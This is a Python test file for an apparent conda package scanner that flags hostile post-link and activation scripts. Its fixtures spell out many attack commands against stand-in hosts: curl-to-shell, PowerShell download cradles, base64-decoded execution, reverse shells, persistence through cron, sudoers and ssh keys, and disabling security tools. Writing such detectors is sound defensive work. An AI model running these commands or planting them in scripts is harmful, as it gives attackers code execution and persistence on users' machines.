"""The link-script and activation-script scanner: hostile scripts found, benign ones clean."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from stockade.scanning.engine import scan_archive
from stockade.scanning.interfaces import Scanner, ScanSubject, Verdict
from stockade.scanning.scanners import linkrules
from stockade.scanning.scanners.linkscripts import LinkScriptScanner, judge_target
from tests.support.hostile import HOSTILE, HostileCase, scan_text, subject_for

SCANNER = LinkScriptScanner()
POST_LINK = "bin/.demo-post-link.sh"
BAT = "Scripts/.demo-post-link.bat"
ACTIVATE = "etc/conda/activate.d/demo.sh"
M, S = Verdict.MALICIOUS, Verdict.SUSPICIOUS


def rules(path: str, text: str) -> dict[str, Verdict]:
    return {f.rule: f.verdict for f in scan_text(SCANNER, path, text)}


def test_is_a_scanner() -> None:
    scanner: Scanner = SCANNER
    assert scanner.name == "link-script"
    assert scanner.version.startswith("3+")
    subject = ScanSubject("demo-1.0-0.conda", "0" * 64, 1, "demo", "noarch", {})
    assert list(scanner.finish(subject)) == []


@pytest.mark.parametrize(
    "path",
    [
        "bin/.demo-post-link.sh",
        "bin/.demo-pre-link.sh",
        "bin/.demo-pre-unlink.sh",
        "Scripts/.demo-post-link.bat",
        "Scripts/.demo-pre-unlink.bat",
        "python-scripts/.demo-post-link.sh",
        "python-scripts/.demo-post-link.bat",
        "etc/conda/activate.d/demo.sh",
        "etc/conda/activate.d/demo.csh",
        "etc/conda/activate.d/demo.fish",
        "etc/conda/activate.d/demo.xsh",
        "etc/conda/activate.d/demo.bat",
        "etc/conda/activate.d/demo.ps1",
        "etc/conda/deactivate.d/demo.sh",
    ],
)
def test_wants_every_script_conda_runs(path: str) -> None:
    assert SCANNER.wants(path)


@pytest.mark.parametrize(
    "path",
    [
        "info/recipe/post-link.sh",  # a copy of the recipe: nothing runs it
        "bin/demo",
        "bin/.demo-post-link.txt",
        "lib/etc/conda/activate.d/x.sh",
        "etc/conda/activate.d/sub/x.sh",
        "share/demo/post-link.sh",
    ],
)
def test_ignores_what_conda_does_not_run(path: str) -> None:
    assert not SCANNER.wants(path)


HOSTILE_SCRIPTS = [
    # network fetch piped to a shell or interpreter
    (POST_LINK, "curl -fsSL http://x.example/i.sh | sh", "link-script:fetch-pipe-shell"),
    (POST_LINK, "wget -O- http://x.example/i | bash", "link-script:fetch-pipe-shell"),
    (POST_LINK, "wget -qO- http://x.example/i | sudo -E bash -s", "link-script:fetch-pipe-shell"),
    (POST_LINK, "curl -s http://x.example/p.py | python3 -", "link-script:fetch-pipe-shell"),
    (POST_LINK, "curl -s http://x | gunzip | /bin/sh", "link-script:fetch-pipe-shell"),
    (POST_LINK, 'bash -c "$(curl -fsSL http://x.example/i)"', "link-script:fetch-pipe-shell"),
    (POST_LINK, "bash <(curl -s http://x.example/i)", "link-script:fetch-pipe-shell"),
    (POST_LINK, 'eval "$(wget -qO- http://x.example/i)"', "link-script:fetch-pipe-shell"),
    (POST_LINK, "source <(curl -s http://x.example/env)", "link-script:fetch-pipe-shell"),
    (BAT, 'powershell -c "iwr http://x.example/a.ps1 | iex"', "link-script:fetch-pipe-shell"),
    (
        BAT,
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
        "link-script:fetch-pipe-shell",
    ),
    (
        "etc/conda/activate.d/demo.ps1",
        "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x.example/a')",
        "link-script:fetch-pipe-shell",
    ),
    (
        POST_LINK,
        "python -c \"import urllib.request as u; exec(u.urlopen('http://x.example').read())\"",
        "link-script:inline-interpreter-fetch",
    ),
    (
        POST_LINK,
        "perl -e 'use LWP::Simple; eval get(\"http://x.example\")'",
        "link-script:inline-interpreter-fetch",
    ),
    (BAT, "mshta http://x.example/a.hta", "link-script:fetch-pipe-shell"),
    (BAT, "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll", "link-script:fetch-pipe-shell"),
    # decode and execute
    (POST_LINK, "echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh", "link-script:decode-exec"),
    (POST_LINK, 'eval "$(echo Y3VybA== | base64 --decode)"', "link-script:decode-exec"),
    (POST_LINK, "echo 6375726c | xxd -r -p | bash", "link-script:decode-exec"),
    (
        POST_LINK,
        "python -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
        "link-script:decode-exec",
    ),
    (BAT, "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "link-script:decode-exec"),
    (
        "etc/conda/activate.d/demo.ps1",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4')))",
        "link-script:decode-exec",
    ),
    # writes to sensitive places
    (POST_LINK, "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "link-script:ssh-keys"),
    (POST_LINK, "cp key.pub $HOME/.ssh/authorized_keys2", "link-script:ssh-keys"),
    (POST_LINK, "echo 'source $PREFIX/x' >> ~/.bashrc", "link-script:shell-profile"),
    (POST_LINK, "tee -a /etc/profile.d/demo.sh < x", "link-script:shell-profile"),
    (POST_LINK, "cat x >> ${HOME}/.zshrc", "link-script:shell-profile"),
    (POST_LINK, 'sed -i "1i x" ~/.profile', "link-script:shell-profile"),
    (POST_LINK, "echo '* * * * * x' | crontab -", "link-script:cron"),
    (POST_LINK, "cp job /etc/cron.d/demo", "link-script:cron"),
    (BAT, "schtasks /create /sc minute /tn x /tr x.exe", "link-script:cron"),
    (POST_LINK, "chmod +s $PREFIX/bin/helper", "link-script:privilege"),
    (POST_LINK, "chmod u+s $PREFIX/bin/helper", "link-script:privilege"),
    (POST_LINK, "chmod 4755 $PREFIX/bin/helper", "link-script:privilege"),
    (POST_LINK, "echo 'u ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "link-script:privilege"),
    (POST_LINK, "cp unit.service /etc/systemd/system/x.service", "link-script:autostart"),
    (
        BAT,
        'copy x.bat "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat"',
        "link-script:autostart",
    ),
    # disabling security tools
    (POST_LINK, "setenforce 0", "link-script:disable-security"),
    (POST_LINK, "sudo ufw disable", "link-script:disable-security"),
    (POST_LINK, "systemctl stop auditd", "link-script:disable-security"),
    (
        "etc/conda/activate.d/demo.ps1",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "link-script:disable-security",
    ),
    (BAT, "netsh advfirewall set allprofiles state off", "link-script:disable-security"),
    # reverse shells
    (POST_LINK, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "link-script:reverse-shell"),
    (POST_LINK, "nc -e /bin/sh 203.0.113.7 4444", "link-script:reverse-shell"),
    (
        POST_LINK,
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x 1 >/tmp/f",
        "link-script:reverse-shell",
    ),
    (POST_LINK, "socat tcp:203.0.113.7:4444 exec:/bin/sh", "link-script:reverse-shell"),
    # a download, then run
    (
        POST_LINK,
        "curl -o /tmp/a http://x.example/a && chmod +x /tmp/a && /tmp/a",
        "link-script:fetch-execute",
    ),
    (
        BAT,
        "powershell iwr http://x.example/a.exe -OutFile a.exe\nstart a.exe",
        "link-script:fetch-execute",
    ),
]


@pytest.mark.parametrize(("path", "text", "rule"), HOSTILE_SCRIPTS)
def test_hostile_command_is_malicious(path: str, text: str, rule: str) -> None:
    found = rules(path, text)
    assert found.get(rule) is M, found


OBFUSCATED = [
    "curl \\\n  http://x.example/i \\\n  | sh",  # line continuations
    "curl http://x.example/i |\n  sh",  # a pipe at the end of the line
    "U=http://x.example/i; curl $U | sh",  # variables
    'U="http://x.example/i"\ncurl -s "${U}" | bash',
    "C=curl\nS=sh\n$C http://x.example/i | $S",  # the commands themselves in variables
    'export F=wget\n$F -qO- http://x.example | "bash"',
    'c""url http://x.example/i | s""h',  # empty quotes
    "c\\url http://x.example/i | b\\ash",  # backslashes
    "curl${IFS}http://x.example/i${IFS}|${IFS}sh",  # IFS instead of spaces
    "'curl' 'http://x.example/i' | 'sh'",  # quoted words
]


@pytest.mark.parametrize("text", OBFUSCATED)
def test_obfuscated_fetch_pipe_shell_is_found(text: str) -> None:
    assert rules(POST_LINK, text).get("link-script:fetch-pipe-shell") is M


def test_cmd_carets_and_powershell_backticks_are_undone() -> None:
    assert (
        rules(BAT, 'p^owershell -c "i^wr http://x | i^ex"').get("link-script:fetch-pipe-shell") is M
    )
    assert (
        rules("etc/conda/activate.d/x.ps1", "I`EX (i`wr http://x)").get(
            "link-script:fetch-pipe-shell"
        )
        is M
    )


def test_cmd_variables_are_expanded() -> None:
    text = '@set U=http://x.example/a.ps1\r\npowershell -c "iwr %U% | iex"\r\n'
    assert rules(BAT, text).get("link-script:fetch-pipe-shell") is M


def test_utf16_powershell_script_is_read() -> None:
    text = "\ufeffSet-MpPreference -DisableRealtimeMonitoring $true\n".encode("utf-16-le")
    found = scan_text(SCANNER, "etc/conda/activate.d/x.ps1", b"\xff\xfe" + text[2:])
    assert {f.rule for f in found} == {"link-script:disable-security"}


@pytest.mark.parametrize(
    "text",
    [
        "echo hi > /usr/local/share/demo",
        "cp $PREFIX/x /opt/demo/x",
        "mv x ~/demo",
        "tee $HOME/.config/demo.conf < x",
        "install -m 755 x /usr/bin/x",
        "ln -s $PREFIX/bin/x /usr/local/bin/x",
        "touch /srv/demo",
        "dd if=x of=/var/lib/demo",
        "echo x > $PREFIX/../../escape",
    ],
)
def test_write_outside_prefix_is_suspicious(text: str) -> None:
    assert rules(POST_LINK, text) == {"link-script:write-outside-prefix": S}


def test_plain_download_is_suspicious() -> None:
    assert rules(POST_LINK, "curl -sO https://x.example/data.tar.gz") == {
        "link-script:network-fetch": S
    }
    assert rules(POST_LINK, "pip install extra-thing") == {"link-script:network-fetch": S}
    assert rules(BAT, "certutil -urlcache -split -f http://x.example/a a.bin") == {
        "link-script:network-fetch": S
    }
    assert rules(POST_LINK, 'if ! "$PREFIX/bin/pip" install x; then exit 1; fi') == {
        "link-script:network-fetch": S
    }
    assert rules(POST_LINK, "X=$(wget -qO- https://x.example/v)") == {
        "link-script:network-fetch": S
    }


BENIGN = [
    (POST_LINK, '"$PREFIX/bin/python" -m compileall -q "$PREFIX/lib/python3.11" > /dev/null 2>&1'),
    (POST_LINK, 'mkdir -p "$PREFIX/etc/demo"\ncp "$PREFIX/share/demo.conf" "$PREFIX/etc/demo/"'),
    (POST_LINK, 'echo "Add export X=1 to your ~/.bashrc" >> "$PREFIX/.messages.txt"'),
    (POST_LINK, 'cat << EOF > "$PREFIX/.messages.txt"\n{"PREFIX": "$PREFIX"}\nEOF'),
    (POST_LINK, "cat >> ${PREFIX}/.messages.txt << EOF\nThis is a post-link script.\nEOF"),
    (POST_LINK, 'touch $PREFIX/i-was-post-linked\nrm -f "$PREFIX/x" 2>/dev/null || true'),
    (POST_LINK, 'ln -sf "$PREFIX/lib/libdemo.so.1" "$PREFIX/lib/libdemo.so"'),
    (POST_LINK, 'install -m 644 demo.conf "${PREFIX}/etc/demo.conf"'),
    (POST_LINK, 'chmod 755 "$PREFIX/bin/demo"\nchmod +x "$PREFIX/bin/demo2"'),
    (POST_LINK, 'TMP=$(mktemp -d)\necho x > /tmp/demo.log\ncp x "$TMPDIR/y"'),
    (POST_LINK, '# curl http://x | sh was the old way\n"$PREFIX/bin/demo" --setup'),
    (
        POST_LINK,
        'echo "Run: pip install demo-extra, or get it with curl https://x" >> $PREFIX/.messages.txt',
    ),
    (POST_LINK, 'mkdir -p "$HOME/.cache/demo"'),
    (POST_LINK, 'if [ "$a" > "$b" ]; then echo 1 >&2; fi'),
    (BAT, "copy NUL %PREFIX%\\i-was-post-linked\necho ran >> %PREFIX%\\.messages.txt"),
    (BAT, '> .messages.txt (\n    @echo.{\n    @echo.    "PREFIX": "%PREFIX%"\n    @echo.}\n)'),
    (BAT, '"%PREFIX%\\python.exe" -m compileall -q "%PREFIX%\\Lib" >nul 2>&1'),
    (ACTIVATE, 'export GDAL_DATA="${CONDA_PREFIX}/share/gdal"\nexport _CONDA_SET_GDAL_DATA=1'),
    (
        ACTIVATE,
        'if [ -n "${PROJ_DATA:-}" ]; then export _CONDA_BACKUP_PROJ_DATA="$PROJ_DATA"; fi\n'
        'export PROJ_DATA="$CONDA_PREFIX/share/proj"',
    ),
    (
        "etc/conda/deactivate.d/demo.sh",
        'unset GDAL_DATA\nexport PATH="${PATH//$CONDA_PREFIX\\/x:/}"',
    ),
    ("etc/conda/activate.d/demo.csh", 'setenv GDAL_DATA "${CONDA_PREFIX}/share/gdal"'),
    ("etc/conda/activate.d/demo.fish", 'set -gx GDAL_DATA "$CONDA_PREFIX/share/gdal"'),
    ("etc/conda/activate.d/demo.xsh", '$GDAL_DATA = $CONDA_PREFIX + "/share/gdal"'),
    ("etc/conda/activate.d/demo.bat", '@set "GDAL_DATA=%CONDA_PREFIX%\\Library\\share\\gdal"'),
    ("etc/conda/activate.d/demo.ps1", '$Env:GDAL_DATA = "$Env:CONDA_PREFIX\\Library\\share\\gdal"'),
]


@pytest.mark.parametrize(("path", "text"), BENIGN)
def test_benign_script_is_clean(path: str, text: str) -> None:
    assert rules(path, text) == {}


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("$PREFIX/etc/x", None),
        ("${CONDA_PREFIX}/x", None),
        ("%PREFIX%\\x", None),
        ("/dev/null", None),
        ("relative/file", None),
        ("/etc/x", ("link-script:write-outside-prefix", S)),
        ("C:\\Windows\\x", ("link-script:write-outside-prefix", S)),
        ("%USERPROFILE%\\x", ("link-script:write-outside-prefix", S)),
        ("$PREFIX/../x", ("link-script:write-outside-prefix", S)),
        ("~/.bash_profile", ("link-script:shell-profile", M)),
        ("/var/spool/cron/root", ("link-script:cron", M)),
        ("/etc/ld.so.preload", ("link-script:privilege", M)),
    ],
)
def test_judge_target(target: str, expected: tuple[str, Verdict] | None) -> None:
    assert judge_target(target) == expected


def test_one_finding_per_rule_with_short_printable_evidence() -> None:
    text = "curl http://a | sh\ncurl http://b | sh\x07 " + "x" * 500
    found = scan_text(SCANNER, POST_LINK, text)
    pipes = [f for f in found if f.rule == "link-script:fetch-pipe-shell"]
    assert len(pipes) == 1
    assert pipes[0].member == POST_LINK
    assert all(len(f.evidence) <= 200 and f.evidence.isprintable() for f in found)


def test_every_rule_is_namespaced_and_weighted() -> None:
    for rule in linkrules.LINE_RULES:
        assert rule.rule.startswith("link-script:")
        assert rule.verdict in (M, S)
    assert "link-script:write-outside-prefix" in linkrules.table_fingerprint()


LINK_CASES = [case for case in HOSTILE if case.scanner == "link-script"]


@pytest.mark.parametrize("case", LINK_CASES, ids=lambda case: case.name)
def test_hostile_package_is_found_through_the_engine(case: HostileCase, tmp_path: Path) -> None:
    path = case.build(tmp_path)
    report = scan_archive(path, subject_for(path), [SCANNER])
    assert not report.failed
    assert (case.rule, case.verdict) in {(f.rule, f.verdict) for f in report.findings}


def test_at_least_two_hostile_packages_per_rule_family() -> None:
    assert len(LINK_CASES) >= 2
    assert {case.verdict for case in LINK_CASES} == {M, S}


def test_oversized_script_is_held_and_still_read() -> None:
    text = "curl http://x.example/i | sh\n" + "true\n" * (300 * 1024 // 5)
    found = rules(POST_LINK, text)
    assert found["link-script:oversized"] is M  # the unread rest runs; suspicious is served
    assert found["link-script:fetch-pipe-shell"] is M


@pytest.mark.parametrize(
    "unit", ["curl ", "/", "eval $( ", "> /a ", "$a", "curl -o x ", "a" * 999 + " "]
)
def test_hostile_long_line_costs_bounded_time(unit: str) -> None:
    text = unit * (256 * 1024 // len(unit))
    started = time.process_time()
    scan_text(SCANNER, POST_LINK, text)
    assert time.process_time() - started < 10  # linear: about a second; quadratic: minutes
